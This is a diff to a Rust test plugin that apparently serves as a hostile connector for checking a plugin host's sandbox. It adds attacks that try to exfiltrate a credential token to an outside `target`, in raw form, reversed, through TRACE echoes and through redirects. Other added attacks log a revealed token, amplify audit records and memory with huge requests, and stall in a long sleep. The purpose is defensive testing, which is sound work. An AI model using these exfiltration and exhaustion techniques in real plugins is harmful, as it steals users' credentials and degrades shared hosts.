@@ -86,13 +86,33 @@ pub enum Attack {
     RepeatedHeader,
     /// Host resources (header sets) created and kept until the host refuses.
     ResourceFlood,
-    /// Reads the token a careless platform echoes back after an injection,
-    /// then tries to pass it on: raw to `target`, and in a record.
+    /// Reads what a careless platform echoes back after an injection (the
+    /// host redacts it) and tries to pass on anything else it sees.
     ReflectExfiltrate,
     /// Requests sent at once to `target` (16, within the hostile request
     /// budget of 20), none waited for until all
     /// are out.
     ConnectionFlood,
+    /// Tries to make the host write far more audit records (and keep far
+    /// more memory) than its calls: credential calls naming a field 200,000
+    /// times or with a megabyte-long name, writes of undeclared fields with
+    /// 16 KiB values, a refused request with hundreds of placeholders, an
+    /// authority of 20 KB.
+    Amplify,
+    /// A `TRACE` with the token's placeholder to the token's origin: a
+    /// server echoes the request's headers back; the plugin reverses the
+    /// echoed token (beyond matching) and sends it to `target`.
+    TraceEcho,
+    /// A request with the token to the token's origin that answers with a
+    /// redirect to `target`: the host must not follow it.
+    Redirect,
+    /// For an operator who granted `reveal` of the token: reveals it, shows
+    /// it is real (sends it to the token's origin), logs it, sends it raw to
+    /// `target` and returns it in its error.
+    RevealGranted,
+    /// Asks for a reveal it is not granted (a denial to audit), then sleeps
+    /// in a host call until the run is cancelled.
+    DenyThenSleep,
 }
 
 /// Pages a `bulk` fetch returns.
@@ -104,7 +124,7 @@ pub const BULK_RECORD_BYTES: usize = 1024;
 
 impl Attack {
     /// Every attack with its setting value.
-    pub const ALL: [(&'static str, Attack); 24] = [
+    pub const ALL: [(&'static str, Attack); 29] = [
         ("ok", Attack::Ok),
         ("loop", Attack::Loop),
         ("sleep", Attack::Sleep),
@@ -129,6 +149,11 @@ impl Attack {
         ("resource-flood", Attack::ResourceFlood),
         ("connection-flood", Attack::ConnectionFlood),
         ("reflect-exfiltrate", Attack::ReflectExfiltrate),
+        ("amplify", Attack::Amplify),
+        ("trace-echo", Attack::TraceEcho),
+        ("redirect", Attack::Redirect),
+        ("reveal-granted", Attack::RevealGranted),
+        ("deny-then-sleep", Attack::DenyThenSleep),
     ];
 
     fn parse(name: &str) -> Result<Attack, ConnectorError> {
@@ -242,6 +267,30 @@ impl Connector for Hostile {
             Attack::ConnectionFlood => connection_flood(
                 config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
             ),
+            Attack::Amplify => {
+                amplify(config::get_or(config, "outside", DEFAULT_TARGET).trim_end_matches('/'))
+            }
+            Attack::TraceEcho => trace_echo(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
+            Attack::Redirect => redirect(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
+            Attack::RevealGranted => reveal_granted(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
+            Attack::DenyThenSleep => {
+                let denied = credentials::reveal(&["token"]);
+                log::warn(&format!(
+                    "deny-then-sleep: reveal answered {}",
+                    if denied.is_ok() { "values" } else { "a denial" }
+                ));
+                std::thread::sleep(Duration::from_secs(3600));
+                Err(ConnectorError::Other("LEAK: slept an hour".into()))
+            }
         }
     }
 }
@@ -706,9 +755,12 @@ fn connection_flood(target: &str) -> Result<Page, ConnectorError> {
     )))
 }
 
-/// Gets the token echoed back in a 401 (`received authorization: "Bearer
-/// TOKEN"`), sends it raw to `target` (allowed for requests, not for the
-/// token) in a header and a query, and returns it in a record.
+/// Gets what a careless platform echoes of the token in a 401 (`received
+/// authorization: "Bearer TOKEN"`). The host redacts it from the response:
+/// if that is all the plugin sees, it returns it in a record. Anything else
+/// it got, it tries to pass on — raw to `target` (allowed for requests, not
+/// for the token) in a header and a query, and reversed (beyond matching) —
+/// and says `LEAK`.
 fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> {
     let token = credentials::placeholder("token")?;
     let echoed = Request::get(format!("{base}/v1/me"))
@@ -724,6 +776,12 @@ fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> 
             ConnectorError::Other(format!("reflect-exfiltrate: nothing echoed in {body}"))
         })?
         .to_owned();
+    if stolen == "[redacted]" {
+        return Ok(one_record(
+            r#"{"attack":"reflect-exfiltrate","saw":"[redacted]"}"#,
+        ));
+    }
+    let reversed: String = stolen.chars().rev().collect();
     let attempts = vec![
         (
             format!("header to {target}"),
@@ -736,9 +794,164 @@ fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> 
             format!("query to {target}"),
             attempt(Request::get(format!("{target}/hostile/reflect/query")).query("t", &stolen)),
         ),
+        (
+            format!("reversed to {target}"),
+            attempt(
+                Request::get(format!("{target}/hostile/reflect/reversed")).query("t", &reversed),
+            ),
+        ),
     ];
-    if attempts.iter().any(|(_, sent)| sent.is_ok()) {
-        return Err(verdict("reflect-exfiltrate", &attempts));
+    let ConnectorError::Other(tried) = verdict("reflect-exfiltrate", &attempts) else {
+        unreachable!("a verdict is `Other`");
+    };
+    Err(ConnectorError::Other(format!(
+        "reflect-exfiltrate LEAK: the plugin saw an echoed value of {} bytes; {tried}",
+        stolen.len()
+    )))
+}
+
+/// Each probe of `amplify`, repeated: what the host answered.
+fn amplify(outside: &str) -> Result<Page, ConnectorError> {
+    let huge_name = "n".repeat(1 << 20);
+    let mut attempts = Vec::new();
+    for round in 0..3 {
+        let many = vec!["token"; 200_000];
+        attempts.push((
+            format!("{round}: reveal of `token` 200000 times"),
+            credentials::reveal(&many)
+                .map(|v| format!("{} values", v.len()))
+                .map_err(|e| describe(&e)),
+        ));
+        let mut names = vec![huge_name.as_str()];
+        names.extend(std::iter::repeat_n("a", 1000));
+        attempts.push((
+            format!("{round}: reveal of a 1 MiB name and 1000 more"),
+            credentials::reveal(&names)
+                .map(|v| format!("{} values", v.len()))
+                .map_err(|e| describe(&e)),
+        ));
+        attempts.push((
+            format!("{round}: update of a 1 MiB name"),
+            credentials::update(&[(huge_name.as_str(), "x")])
+                .map(|()| "stored".to_owned())
+                .map_err(|e| describe(&e)),
+        ));
+        // A request refused for its destination, with 500 placeholders of
+        // undeclared fields next to the token's.
+        let mut header = String::from("{{intake:token}}");
+        for i in 0..500 {
+            header.push_str(&format!(" {{{{intake:f{i}}}}}"));
+        }
+        attempts.push((
+            format!("{round}: 501 placeholders to {outside}"),
+            attempt(Request::get(format!("{outside}/hostile/amplify")).header("x-many", header)),
+        ));
+        let long_host = format!("{}.test:80", "h".repeat(20_000));
+        attempts.push((
+            format!("{round}: a 20 KB authority"),
+            raw::send(
+                raw::RawScheme::Http,
+                &long_host,
+                "/x",
+                "Bearer {{intake:token}}",
+            ),
+        ));
     }
-    Ok(one_record(&format!(r#"{{"stolen":"{stolen}"}}"#)))
+    // Distinct 16 KiB values for an undeclared field: the host must not
+    // remember them (it keeps at most 8 values of a field; past them it
+    // would end the run with a limit error, not a refusal).
+    for i in 0..12 {
+        let value = format!("{i:02}{}", "v".repeat(16 * 1024 - 2));
+        attempts.push((
+            format!("update {i} of an undeclared field"),
+            credentials::update(&[("undeclared", value.as_str())])
+                .map(|()| "stored".to_owned())
+                .map_err(|e| describe(&e)),
+        ));
+    }
+    Err(verdict("amplify", &attempts))
+}
+
+/// `TRACE` to the token's origin with the token's placeholder: if an echo
+/// comes back, the token in it is reversed and sent to `target`.
+fn trace_echo(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    use intake_plugin_sdk::http::Method;
+    let token = credentials::placeholder("token")?;
+    let echoed = Request::new(Method::Trace, format!("{base}/hostile/trace"))
+        .header("authorization", format!("Bearer {token}"))
+        .send();
+    let response = match echoed {
+        Ok(response) => response,
+        Err(e) => {
+            let attempts = vec![("TRACE to the token's origin".to_owned(), Err(e.to_string()))];
+            return Err(verdict("trace-echo", &attempts));
+        }
+    };
+    let text = response.text();
+    let stolen = text
+        .split("authorization: Bearer ")
+        .nth(1)
+        .and_then(|rest| rest.split(['\r', '\n']).next())
+        .unwrap_or_default()
+        .to_owned();
+    let reversed: String = stolen.chars().rev().collect();
+    let attempts = vec![
+        (
+            "TRACE to the token's origin".to_owned(),
+            Ok(format!("status {}", response.status)),
+        ),
+        (
+            format!("reversed echo to {target}"),
+            attempt(Request::get(format!("{target}/hostile/trace/reversed")).query("t", &reversed)),
+        ),
+    ];
+    Err(verdict("trace-echo", &attempts))
+}
+
+/// A request with the token that the platform redirects to `target`:
+/// returns the status the plugin saw.
+fn redirect(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    let token = credentials::placeholder("token")?;
+    let response = Request::get(format!("{base}/redirect"))
+        .query("to", &format!("{target}/hostile/redirected"))
+        .header("authorization", format!("Bearer {token}"))
+        .send()
+        .map_err(|e| ConnectorError::Other(format!("redirect: {e}")))?;
+    let location = response.header("location").unwrap_or_default().to_owned();
+    Ok(one_record(&format!(
+        r#"{{"attack":"redirect","status":{},"location":{}}}"#,
+        response.status,
+        serde_json::Value::String(location)
+    )))
+}
+
+/// With `reveal` of the token granted: reveals it, proves it holds the real
+/// value (sends it raw to the token's origin, where it may go), logs it,
+/// sends it raw to `target` (where it may not go) and returns it in its
+/// error, upper-cased too.
+fn reveal_granted(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    let token = credentials::reveal(&["token"])?
+        .pop()
+        .ok_or_else(|| ConnectorError::Other("reveal-granted: no value".into()))?;
+    let home = attempt(
+        Request::get(format!("{base}/hostile/revealed"))
+            .header("authorization", format!("Bearer {token}")),
+    );
+    log::warn(&format!(
+        "reveal-granted: the token is {token} ({})",
+        token.to_uppercase()
+    ));
+    let elsewhere =
+        attempt(Request::get(format!("{target}/hostile/revealed-elsewhere")).query("t", &token));
+    Err(ConnectorError::Other(format!(
+        "reveal-granted: to the token's origin: {}; to {target}: {}; the token is {token}",
+        match &home {
+            Ok(got) => format!("sent ({got})"),
+            Err(why) => format!("refused ({why})"),
+        },
+        match &elsewhere {
+            Ok(got) => format!("LEAK: sent ({got})"),
+            Err(why) => format!("refused ({why})"),
+        }
+    )))
 }
